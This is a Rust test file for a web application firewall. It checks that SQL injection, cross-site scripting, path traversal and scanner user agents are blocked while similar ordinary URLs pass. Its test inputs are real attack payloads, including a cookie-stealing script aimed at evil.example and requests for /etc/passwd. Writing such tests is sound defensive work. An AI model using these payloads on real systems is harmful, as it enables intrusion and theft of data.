//! The built-in rules: each category stops real attack samples, encoded or not, and lets
//! the ordinary requests that look like them through.

mod support;

use support::{get, waf, with_ua, BROWSER_UA};

fn defaults() -> waf::Waf {
    waf("{}")
}

fn blocked_by(target: &str) -> Option<String> {
    get(&defaults(), target)
}

#[test]
fn sql_injection_is_blocked() {
    let cases = [
        ("/products?id=1+UNION+SELECT+password+FROM+users", "sqli-union"),
        ("/products?id=1%20UnIoN/**/AlL/**/SeLeCt%201,2", "sqli-union,sqli-comment"),
        ("/products?id=-1%20union%20(select%20null)", "sqli-union"),
        ("/login?user=%27%20or%201%3D1", "sqli-tautology"),
        ("/login?user=x%27+OR+%27a%27%3D%27a", "sqli-tautology"),
        ("/item?id=1%20or%201=1", "sqli-tautology"),
        ("/item?id=1)%20or%20(1=1", "sqli-tautology"),
        ("/login?user=admin%22%20or%20%221%22=%221", "sqli-tautology"),
        ("/item?id=1%27/**/or/**/1=1", "sqli-tautology,sqli-comment"),
        ("/item?id=1%20AND%20SLEEP(5)", "sqli-sleep"),
        ("/item?id=1;waitfor%20delay%20%270:0:5%27", "sqli-sleep"),
        ("/item?id=1%20and%20benchmark(5000000,md5(1))", "sqli-sleep"),
        ("/item?cat=information_schema.tables", "sqli-schema"),
        ("/login?user=admin%27--", "sqli-comment"),
        ("/login?user=admin%27%20--%20", "sqli-comment"),
        ("/login?user=admin%27%23&pass=x", "sqli-comment"),
        ("/item?id=1;DROP+TABLE+users", "sqli-stacked"),
        ("/item?id=1%3B%20exec%20xp_cmdshell%20%27dir%27", "sqli-stacked"),
    ];
    for (target, rule) in cases {
        assert_eq!(blocked_by(target).as_deref(), Some(rule), "{target}");
    }
}

#[test]
fn several_sql_signs_are_all_reported() {
    assert_eq!(
        blocked_by("/login?user=admin%27%20or%20%271%27=%271%27%20union%20select%201--%20").as_deref(),
        Some("sqli-union,sqli-tautology,sqli-comment")
    );
}

#[test]
fn sql_words_in_ordinary_urls_pass() {
    for target in [
        "/products?sort=union_date",
        "/select-plan",
        "/union-station/select",
        "/docs/select--option",
        "/blog/how-to-sleep-better?utm_source=news",
        "/search?q=rock+and+roll",
        "/search?q=don%27t+stop+me+now",
        "/search?q=O%27Reilly+and+sons",
        "/search?q=sleep+(8+hours)",
        "/search?q=benchmark+(2024)",
        "/api/v1/users?order=desc&limit=10&select=name,email",
        "/orders?status=shipped&&page=2",
        "/matrix;jsessionid=abc123/update",
        "/schema/information",
        "/a--b/c--d?x=y--z",
        "/theme?color=%27%23fff%27",
        "/search?q=it%27s+5+o%27clock&name=D%27Angelo",
        "/search?q=%22hello%22+or+%22world%22",
        "/search?filter=%7B%22name%22:%22x%22,%22age%22:%7B%22$gt%22:5%7D%7D",
    ] {
        assert_eq!(blocked_by(target), None, "{target}");
    }
}

#[test]
fn cross_site_scripting_is_blocked() {
    let cases = [
        ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss-script"),
        ("/search?q=%3C%20ScRiPt%20src=//evil.example%3E", "xss-script"),
        ("/go?next=javascript:alert(document.domain)", "xss-javascript-uri"),
        ("/go?next=JaVaScRiPt%20:alert(1)", "xss-javascript-uri"),
        ("/p?x=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "xss-event-handler"),
        ("/p?x=%3Csvg/onload=alert(1)%3E", "xss-event-handler"),
        ("/p?x=%3Csvg%0Aonload%3Dalert(1)%3E", "xss-event-handler"),
        ("/p?x=%22%20onmouseover%3D%22alert(1)", "xss-event-handler"),
        ("/p?x=%3Ciframe%20src%3D%22https://evil.example%22", "xss-iframe"),
        ("/p?x=new%20Image().src=%27//evil.example/?%27%2Bdocument.cookie", "xss-cookie"),
    ];
    for (target, rule) in cases {
        assert_eq!(blocked_by(target).as_deref(), Some(rule), "{target}");
    }
}

#[test]
fn html_and_script_words_in_ordinary_urls_pass() {
    for target in [
        "/docs/javascript/guide",
        "/scripts/app.js?v=3",
        "/page?onload=1&onerror=skip",
        "/settings?autoload=true",
        "/frames/gallery",
        "/docs/document-cookies",
        "/search?q=a+%3C+b",
        "/search?q=%3Cb%3Ebold%3C/b%3E",
    ] {
        assert_eq!(blocked_by(target), None, "{target}");
    }
}

#[test]
fn path_traversal_is_blocked_in_every_encoding() {
    let cases = [
        ("/static/../../app/config.yml", "traversal-dotdot"),
        ("/static/..%2f..%2fapp.env", "traversal-dotdot"),
        ("/static/%2e%2e/%2E%2E/app.env", "traversal-dotdot"),
        ("/static/%252e%252e%252fapp.env", "traversal-dotdot"),
        ("/download?file=..\\..\\app.ini", "traversal-dotdot"),
        ("/static/%c0%ae%c0%ae/app.env", "traversal-dotdot"),
        ("/static/..", "traversal-dotdot"),
        ("/download?file=%2Fetc%2Fpasswd", "traversal-system-file"),
        ("/download?file=/proc/self/environ", "traversal-system-file"),
        ("/static/../../etc/passwd", "traversal-dotdot,traversal-system-file"),
    ];
    for (target, rule) in cases {
        assert_eq!(blocked_by(target).as_deref(), Some(rule), "{target}");
    }
}

#[test]
fn dots_in_ordinary_urls_pass() {
    for target in ["/files/report..final.pdf", "/v1.2/docs/", "/files/..hidden", "/etc/config", "/users/passwd-reset"] {
        assert_eq!(blocked_by(target), None, "{target}");
    }
}

#[test]
fn scanners_are_blocked_by_user_agent() {
    let cases = [
        ("sqlmap/1.7.2#stable (https://sqlmap.org)", "scanner-sqlmap"),
        ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "scanner-nikto"),
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "scanner-nmap"),
        ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "scanner-masscan"),
        ("Mozilla/5.0 (Windows NT 10.0) Acunetix-WVS", "scanner-acunetix"),
        ("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "scanner-wpscan"),
        ("DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "scanner-dirbuster"),
        ("gobuster/3.6", "scanner-gobuster"),
        ("Mozilla/5.0 zgrab/0.x", "scanner-zgrab"),
    ];
    let waf = defaults();
    for (user_agent, rule) in cases {
        assert_eq!(with_ua(&waf, user_agent).as_deref(), Some(rule), "{user_agent}");
    }
}

#[test]
fn browsers_and_tools_pass() {
    let waf = defaults();
    for user_agent in [
        BROWSER_UA,
        "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
        "curl/8.7.1",
        "Roadmapper/2.0 (+https://example.com/bot)",
        "python-requests/2.32.3",
    ] {
        assert_eq!(with_ua(&waf, user_agent), None, "{user_agent}");
    }
    assert_eq!(get(&waf, "/"), None);
}

#[test]
fn disabled_rules_stay_quiet_and_the_rest_still_block() {
    let waf = waf(r#"{ "disable": ["sqli-union", "scanner-nmap"] }"#);
    assert_eq!(get(&waf, "/products?id=1+union+select+2"), None);
    assert_eq!(with_ua(&waf, "Nmap Scripting Engine"), None);
    assert_eq!(get(&waf, "/login?user=%27%20or%201%3D1").as_deref(), Some("sqli-tautology"));
    assert_eq!(with_ua(&waf, "sqlmap/1.7").as_deref(), Some("scanner-sqlmap"));
    // Disabled rules no longer add to the score of a request that trips others.
    assert_eq!(get(&waf, "/p?id=1+union+select+1--+").as_deref(), Some("sqli-comment"));
}

#[test]
fn default_rules_can_be_turned_off() {
    let waf = waf(r#"{ "default_rules": false,
             "rules": [ { "id": "no-admin", "target": "path", "match": "literal", "pattern": "/admin" } ] }"#);
    assert_eq!(get(&waf, "/products?id=1+union+select+2"), None);
    assert_eq!(with_ua(&waf, "sqlmap/1.7"), None);
    assert_eq!(get(&waf, "/admin").as_deref(), Some("no-admin"));
}
